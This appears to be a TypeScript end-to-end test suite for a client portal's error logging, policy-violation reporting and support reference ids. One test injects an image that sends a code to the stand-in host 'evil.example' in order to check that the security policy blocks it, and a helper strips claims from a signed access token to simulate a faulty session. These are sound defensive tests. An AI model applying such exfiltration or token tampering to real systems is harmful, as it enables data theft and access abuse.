import { beforeEach, expect, test } from "vitest";
import { findBarriers } from "../../../support/accessibility.ts";
import { journey } from "../../../support/journey.ts";
import { startOtherSession } from "../../../support/mint-session.ts";
import { navigate } from "../../../support/pages.ts";

const { open, origin, audit } = journey();

/** Number of events that earlier tests logged. */
let logged = 0;
beforeEach(async () => {
  logged = (await audit()).length;
});

const reports = async (type: string) =>
  (await audit())
    .slice(logged)
    .filter(({ eventType }) => eventType === type)
    .map(({ eventDetails }) => JSON.parse(eventDetails) as Readonly<Record<string, unknown>>);

/** Runs a script of the page that fails outside of React. */
const failTwice = (names: readonly ["RangeError" | "EvalError", "TypeError" | "URIError"]) => {
  const typed = "margaret@hartwell.example";
  for (let times = 0; times < 2; times += 1) {
    setTimeout(() => {
      throw new window[names[0]](typed);
    });
  }
  void Promise.reject(new window[names[1]](typed));
};

test("OPS-08 ERR-03 FAULT-27 errors are logged once, by a failing log, too", async () => {
  const page = await open("/support", { as: "client-uk", expectFailures: true });
  await page.getByRole("heading", { level: 1 }).waitFor();
  page.forgiveComplaints();
  await page.evaluate(failTwice, ["RangeError", "TypeError"] as const);
  await expect.poll(() => reports("BrowserError")).toHaveLength(2);
  const sent = await reports("BrowserError");
  expect(new Set(sent.map(({ name }) => name))).toEqual(new Set(["RangeError", "TypeError"]));
  expect(sent[0]).toMatchObject({ page: "/support", role: "client" });
  const script = await page.locator('script[src*="/index-"]').getAttribute("src");
  expect(script).toBe(`/assets/index-${String(sent[0]?.["build"])}.js`);
  expect(JSON.stringify(sent)).not.toContain("margaret");

  // A log that always fails is neither shown nor asked again.
  await page.setExtraHTTPHeaders({ "x-sandbox-fault": "logEvent=500" });
  const asked: string[] = [];
  page.on("request", (request) => {
    if (request.postData()?.includes("BrowserError")) asked.push(request.url());
  });
  await page.evaluate(failTwice, ["EvalError", "URIError"] as const);
  await expect.poll(() => asked.length).toBe(2);
  await page.getByRole("link", { name: "Home" }).first().click();
  await page.getByRole("heading", { level: 1, name: /Margaret/ }).waitFor();
  expect(asked).toHaveLength(2);
  expect(await page.getByRole("alert").filter({ hasText: /\S/ }).count()).toBe(0);

  // A slow event is sent before the logout invalidates the tokens.
  const session = await page.evaluate(() => sessionStorage.getItem("portal.auditSession"));
  const before = (await audit()).length;
  const isAsked = page.waitForRequest(/LogEvent/);
  await page.setExtraHTTPHeaders({ "x-sandbox-fault": "logEvent=delay:600" });
  await page.getByRole("navigation").getByRole("link", { name: "Reports", exact: true }).click();
  await isAsked;
  await page.setExtraHTTPHeaders({});
  const left = page.waitForResponse(/auth\/logout/);
  await page.signOut();
  expect((await left).status()).toBe(200);
  const last = (await audit()).slice(before).filter(({ sessionId }) => sessionId === session);
  expect(last.map(({ eventType }) => eventType).toSorted()).toEqual(["Logout", "Navigation"]);
});

test("OPS-08 a page sends violations at once, its vitals when hidden", async () => {
  const page = await open("/login", { config: { vitalsSampleRate: 1 } });
  page.forgiveComplaints();
  await page.evaluate(() => {
    const image = document.createElement("img");
    image.src = "https://evil.example/x.png?code=123456";
    image.alt = "";
    document.body.append(image);
  });
  await expect.poll(() => reports("PolicyViolation")).toHaveLength(1);
  expect((await reports("PolicyViolation"))[0]).toMatchObject({
    directive: "img-src",
    blocked: "https://evil.example/",
    page: "/login",
    role: "nobody",
  });
  // The page observes by now. Entries of the past are given to an observer in a later task.
  await page.evaluate(
    () =>
      new Promise<void>((resolve) => {
        const observer = new PerformanceObserver(() => resolve());
        observer.observe({ type: "largest-contentful-paint", buffered: true });
      }),
  );
  // The largest paint is final with the first input.
  await page.getByRole("heading", { level: 1 }).click();
  await page.evaluate(() => {
    Object.defineProperty(document, "visibilityState", { value: "hidden", configurable: true });
    Object.defineProperty(document, "hidden", { value: true, configurable: true });
    document.dispatchEvent(new Event("visibilitychange", { bubbles: true }));
  });
  await expect.poll(() => reports("WebVitals")).toHaveLength(1);
  expect((await reports("WebVitals"))[0]).toMatchObject({
    page: "/login",
    LCP: expect.any(Number),
  });
});

test("OPS-08 failed reads and actions show the id of their request", async () => {
  const ids: (string | undefined)[] = [];
  await startOtherSession(origin());
  const page = await open("/pageunderconstruction", {
    as: "client-uk",
    fault:
      "whatsNew=500, contacts=500, holdings=500, endOtherSessions=500, listSearchCriteria=500, saveHomeLayout=500, ldi=500, reportFile=500",
    expectFailures: true,
    before: async (started) => {
      started.on("response", (response) => {
        if (response.status() === 500) ids.push(response.headers()["x-request-id"]);
      });
    },
  });
  const withReference = { hasText: /Reference for support: [\da-f]{8}\)?$/ };
  // Messages at the edge of the page stand in an open dialog, too, and have references of their own.
  const reference = page.locator('p:not([aria-label="Messages"] p)').filter(withReference);
  const isOfFailure = (text: string | null) =>
    ids.some((id) => text?.includes(`${id?.slice(0, 8)}`));
  for (const path of ["/support", "/mcst", "/unaudited?tab=holdings"]) {
    ids.length = 0;
    await navigate(page, path);
    const shown = page.getByRole("main").getByText(/^Reference for support: [\da-f]{8}$/);
    expect.soft(isOfFailure(await shown.first().textContent()), path).toBe(true);
    expect.soft(await findBarriers(page), path).toEqual([]);
  }
  await navigate(page, "/profile?tab=Security");
  await page.getByRole("button", { name: "Sign out all other sessions" }).click();
  const question = page.getByRole("alertdialog");
  await question.getByRole("button", { name: /Sign out/ }).click();
  expect(isOfFailure(await question.locator(reference).textContent())).toBe(true);
  await page.keyboard.press("Escape");
  await navigate(page, "/home");
  await page.getByRole("button", { name: "Arrange this page" }).click();
  const dialog = page.getByRole("dialog");
  await dialog.getByRole("switch", { name: "Insights" }).uncheck();
  expect(isOfFailure(await dialog.locator(reference).textContent())).toBe(true);
  await dialog.getByRole("button", { name: "Done" }).click();
  await page.keyboard.press("ControlOrMeta+k");
  expect(isOfFailure(await dialog.locator(reference).textContent())).toBe(true);
  await page.keyboard.press("Escape");
  await navigate(page, "/home?view=funding-level");
  expect(isOfFailure(await reference.first().textContent())).toBe(true);
  await navigate(page, "/report");
  await page
    .getByRole("button", { name: /^Download / })
    .first()
    .click();
  expect(isOfFailure(await page.getByRole("main").getByRole("alert").textContent())).toBe(true);
  await page.getByRole("checkbox", { name: /^Select all/ }).check();
  await page.getByRole("button", { name: "Download as ZIP" }).click();
  const tray = page.getByRole("region", { name: /^(?!Messages$)/ });
  expect(isOfFailure(await tray.locator(reference).textContent())).toBe(true);
});

/** A session whose access token lacks the privileges, which the portal then reads by a call. */
function withoutPrivileges(session: string): string {
  const tokens = JSON.parse(session) as { readonly accessToken: string };
  const [head = "", body = "", signature = ""] = tokens.accessToken.split(".");
  const claims = JSON.parse(Buffer.from(body, "base64url").toString()) as object;
  const kept = Object.entries(claims).filter(([name]) => !name.endsWith("/privileges"));
  const changed = Buffer.from(JSON.stringify(Object.fromEntries(kept))).toString("base64url");
  return JSON.stringify({ ...tokens, accessToken: [head, changed, signature].join(".") });
}

test("OPS-08 unreadable privileges have a reference; no reports if so set", async () => {
  const page = await open("/home", {
    as: "client-uk",
    config: { reportErrors: false },
    alterSession: withoutPrivileges,
    fault: "privileges=503",
    expectFailures: true,
  });
  await page.getByRole("heading", { name: "System errors" }).waitFor();
  await page.getByText(/Reference for support: [\da-f]{8}\)?$/).waitFor();

  page.forgiveComplaints();
  await page.evaluate(failTwice, ["RangeError", "TypeError"] as const);
  await page.getByRole("button", { name: "Sign out" }).click();
  await page.getByRole("heading", { name: "Sign in" }).waitFor();
  expect(await reports("BrowserError")).toEqual([]);
});
